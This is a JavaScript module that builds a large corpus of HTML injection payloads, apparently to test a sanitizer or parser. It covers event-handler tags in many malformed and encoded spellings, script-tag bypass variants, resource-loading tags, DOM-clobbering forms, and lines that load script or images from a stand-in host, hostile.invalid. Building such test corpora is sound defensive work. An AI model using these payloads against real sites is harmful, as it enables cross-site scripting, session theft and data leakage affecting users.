// Elements with event handlers, written in the ways parsers forgive; scripts; elements that load or send.
import { decimal, encoded, hexadecimal, padded, vector } from './make.mjs';

/** Element, attributes that make the event come, event. */
const HANDLERS = [
  ['img', 'src=x', 'onerror'], ['img', 'src=data:,', 'onerror'], ['img', 'srcset=x', 'onerror'], ['image', 'src=x', 'onerror'],
  ['video', 'src=x', 'onerror'], ['audio', 'src=x', 'onerror'], ['video', 'src=x autoplay', 'onloadstart'], ['audio', 'src=data:, autoplay', 'onloadstart'],
  ['source', 'src=x', 'onerror'], ['track', 'src=x default', 'onerror'], ['body', '', 'onload'], ['body', '', 'onpageshow'], ['body', '', 'onfocus'],
  ['svg', '', 'onload'], ['svg', 'tabindex=1 autofocus', 'onfocus'], ['iframe', 'src=about:blank', 'onload'], ['iframe', 'srcdoc=x', 'onload'], ['frame', 'src=about:blank', 'onload'], ['frameset', '', 'onload'],
  ['object', 'data=x', 'onerror'], ['object', 'data=about:blank', 'onload'], ['embed', 'src=about:blank', 'onload'],
  ['input', 'autofocus', 'onfocus'], ['input', 'type=image src=x', 'onerror'], ['textarea', 'autofocus', 'onfocus'], ['select', 'autofocus', 'onfocus'], ['button', 'autofocus', 'onfocus'], ['keygen', 'autofocus', 'onfocus'],
  ['a', 'href=#x tabindex=1 autofocus', 'onfocus'], ['div', 'contenteditable autofocus', 'onfocus'], ['p', 'tabindex=0 autofocus', 'onfocusin'], ['summary', 'tabindex=0 autofocus', 'onfocus'],
  ['details', 'open', 'ontoggle'], ['dialog', 'open', 'onclose'], ['div', 'popover', 'onbeforetoggle'], ['marquee', '', 'onstart'], ['marquee', 'loop=1 width=0', 'onfinish'], ['bgsound', 'src=x', 'onload'],
  ['link', 'rel=stylesheet href=data:text/css,', 'onload'], ['link', 'rel=stylesheet href=x', 'onerror'], ['script', 'src=x', 'onerror'], ['style', '', 'onload'], ['meta', 'http-equiv=x', 'onload'],
  ['b', 'style=animation:spin 1ms', 'onanimationstart'], ['i', 'style=animation:appear 1ms', 'onanimationend'], ['u', 'style=transition:color 1ms', 'ontransitionrun'], ['div', 'style=content-visibility:auto', 'oncontentvisibilityautostatechange'], ['p', '', 'onpointerenter'], ['p', '', 'onmouseover'], ['p', 'style=position:fixed;inset:0', 'onmousemove'], ['table', 'background=x', 'onload'], ['math', 'tabindex=1 autofocus', 'onfocus'],
];

/** The same start tag as people write it, and as nobody should. */
const SPELLINGS = [
  (tag, attributes, event) => `<${tag} ${attributes} ${event}="RUN">`,
  (tag, attributes, event) => `<${tag.toUpperCase()} ${attributes} ${event.toUpperCase()}='RUN'>x</${tag}>`,
  (tag, attributes, event) => `<${tag}/${attributes.replace(' ', '/')}/${event}=RUN>`,
  (tag, attributes, event) => `<${tag}\t${attributes}\n${event}\f=\t"RUN"\n>`,
  (tag, attributes, event) => `<${tag} ${event}=RUN ${attributes}//`,
  (tag, attributes, event) => `<<${tag} ${attributes} ${event}=RUN>>`,
  (tag, attributes, event) => `<${tag} a='>' ${attributes} ${event}=RUN b="`,
  (tag, attributes, event) => `"'><${tag} ${attributes} ${event}=RUN>`,
  (tag, attributes, event) => `<!--><${tag} ${attributes} ${event}=RUN>-->`,
  (tag, attributes, event) => `x<x ${attributes} x=\`<${tag} ${attributes} ${event}=RUN>\``,
  (tag, attributes, event) => `<${tag} ${attributes} x:${event}=RUN ${event}=RUN>`,
];

const CODES = [decimal, hexadecimal, padded].map((code) => ([tag, attributes, event]) => (run) => `<${tag} ${attributes} ${event}="${code(run)}">`);

const SCRIPTS = [
  '<script>RUN</script>', '<SCRIPT>RUN</SCRIPT>', '<script >RUN</script >', '<script/x>RUN</script>', '<script\n>RUN</script\n>', '<script type=module>RUN</script>', '<script type="text/javascript">RUN</script>', '<script language=javascript>RUN</script>',
  '<script src=data:text/javascript,RUN></script>', '<script src="data:text/javascript;charset=utf-8,RUN"></script>', '<script src=ASK></script>', '<script src=//hostile.invalid/x></script>', '<script async defer src="ASK"></script>', '<script nomodule>RUN</script>',
  '<scr<script>ipt>RUN</scr</script>ipt>', '<script>/*</script><script>*/RUN</script>', '<script><!--\nRUN\n--></script>', '<script>//<![CDATA[\nRUN\n//]]></script>', '</script><script>RUN</script>', '<script>RUN', '<script\0>RUN</script>', '<\0script>RUN</script>', '<script x="</script>">RUN</script>',
  '<svg><script>RUN</script></svg>', '<svg><script href="data:text/javascript,RUN"/></svg>', '<svg><script xlink:href="data:text/javascript,RUN"></script></svg>', '<svg><script>R&#85;N</script></svg>', '<svg><script>&#x2f;&#x2a;*/RUN</script></svg>', '<math><script>RUN</script></math>', '<svg:script>RUN</svg:script>', '<html:script xmlns:html="http://www.w3.org/1999/xhtml">RUN</html:script>',
  '<template><script>RUN</script></template>', '<template shadowrootmode=open><script>RUN</script><img src=x onerror=RUN></template>', '<div><template shadowrootmode="open"><slot onslotchange=RUN></slot></template>x</div>', '<noscript><script>RUN</script></noscript>', '<iframe><script>RUN</script></iframe>', '<iframe srcdoc="<script>parent.RUN</script>"></iframe>', '<iframe srcdoc="&lt;img src=x onerror=parent.RUN&gt;"></iframe>', '<iframe src="data:text/html,<script>parent.RUN</script>"></iframe>', '<iframe sandbox="allow-scripts allow-same-origin" srcdoc="<script>parent.RUN</script>"></iframe>',
  '<script type=importmap>{"imports":{"x":"data:text/javascript,RUN"}}</script><script type=module>import "x"</script>', '<script type=speculationrules>{"prefetch":[{"source":"list","urls":["ASK"]}]}</script>', '<script type="text/vbscript">RUN</script>', '<xml><script>RUN</script></xml>', '<xss onclick=RUN autofocus tabindex=1 onfocus=RUN>', '<x-y onconnected=RUN is="x"></x-y>', '<div is=script>RUN</div>',
];

/** Nothing runs, but another host would learn of it, or the page would be another. */
const LOADS = [
  '<img src=ASK>', '<img srcset="ASK 1x, ASK 2x">', '<picture><source srcset=ASK><img></picture>', '<video src=ASK autoplay></video>', '<video poster=ASK></video>', '<audio src=ASK autoplay></audio>', '<video><source src=ASK></video>', '<video><track src=ASK default></video>', '<input type=image src=ASK>', '<body background=ASK>', '<table background=ASK><td background=ASK>x</table>',
  '<link rel=stylesheet href=ASK>', '<link rel=icon href=ASK>', '<link rel=preload as=image href=ASK>', '<link rel=prefetch href=ASK>', '<link rel=modulepreload href=ASK>', '<link rel=manifest href=ASK>', '<link rel=import href=ASK>', '<link rel=alternate type=application/rss+xml href=ASK>', '<iframe src=ASK></iframe>', '<frame src=ASK>', '<object data=ASK></object>', '<embed src=ASK>', '<applet code=ASK archive=ASK></applet>', '<portal src=ASK></portal>', '<fencedframe src=ASK></fencedframe>', '<object type=text/html data=ASK></object>', '<param name=src value=ASK>',
  '<svg><image href=ASK /></svg>', '<svg><image xlink:href=ASK /></svg>', '<svg><use href="ASK#x"/></svg>', '<svg><feImage href=ASK /></svg>', '<svg><filter id=f><feImage xlink:href=ASK /></filter><rect filter="url(#f)" width=9 height=9 /></svg>', '<svg><pattern><image href=ASK /></pattern></svg>', '<svg><font-face-uri href=ASK /></svg>', '<svg fill="url(ASK#x)"><rect width=9 height=9 /></svg>', '<svg><a href=ASK><text y=9>x</text></a></svg>', '<math><mglyph src=ASK /></math>', '<math><annotation-xml encoding="text/html"><img src=ASK></annotation-xml></math>', '<isindex src=ASK type=image>', '<bgsound src=ASK>', '<base href=ASK/><img src=x>', '<bdo><img lowsrc=ASK dynsrc=ASK>', '<html manifest=ASK>', '<image src=ASK>', '<img src="//hostile.invalid/x">', '<img src="\\\\hostile.invalid\\x">', '<img src="https:hostile.invalid/x">', '<img loading=eager crossorigin src=ASK>',
  '<form id=x action=ASK><input name=attributes><input name=parentNode></form>', '<form><input name=nodeName><img name=childNodes src=x onerror=RUN></form>', '<a id=hit name=hit href=ASK>x</a>', '<img name=body><img name=querySelector>', '<form name=document><input name=cookie></form>', '<iframe name=hit></iframe>', '<embed name=getElementById>', '<object name=defaultView></object>', '<svg id=app></svg><div id=app>x</div>', '<form id=__TAURI_INTERNALS__><input name=invoke></form>',
];

export function htmlVectors() {
  const handlers = HANDLERS.flatMap((handler) => [...SPELLINGS.map((spell) => vector(spell(...handler))), ...CODES.map((code) => code(handler))]);
  const plain = [...SCRIPTS, ...LOADS].map(vector);
  return [...handlers, ...plain, ...plain.slice(0, 24).map((make) => encoded(make, (text) => text.replaceAll('<', '&lt;').replaceAll('&lt;', '&amp;lt;')))];
}
